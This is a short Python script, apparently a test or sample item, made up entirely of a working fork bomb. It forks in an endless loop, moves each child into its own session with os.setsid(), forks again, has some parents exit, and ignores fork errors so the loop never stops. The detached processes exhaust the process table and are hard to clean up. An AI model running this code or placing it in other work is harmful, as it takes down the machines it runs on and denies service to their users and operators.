# A fork bomb whose parents end at once, each child in a session of its own.
# shows: ended
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
            os.fork()
        elif os.getpid() % 3 == 0:
            os._exit(0)
    except OSError:
        continue
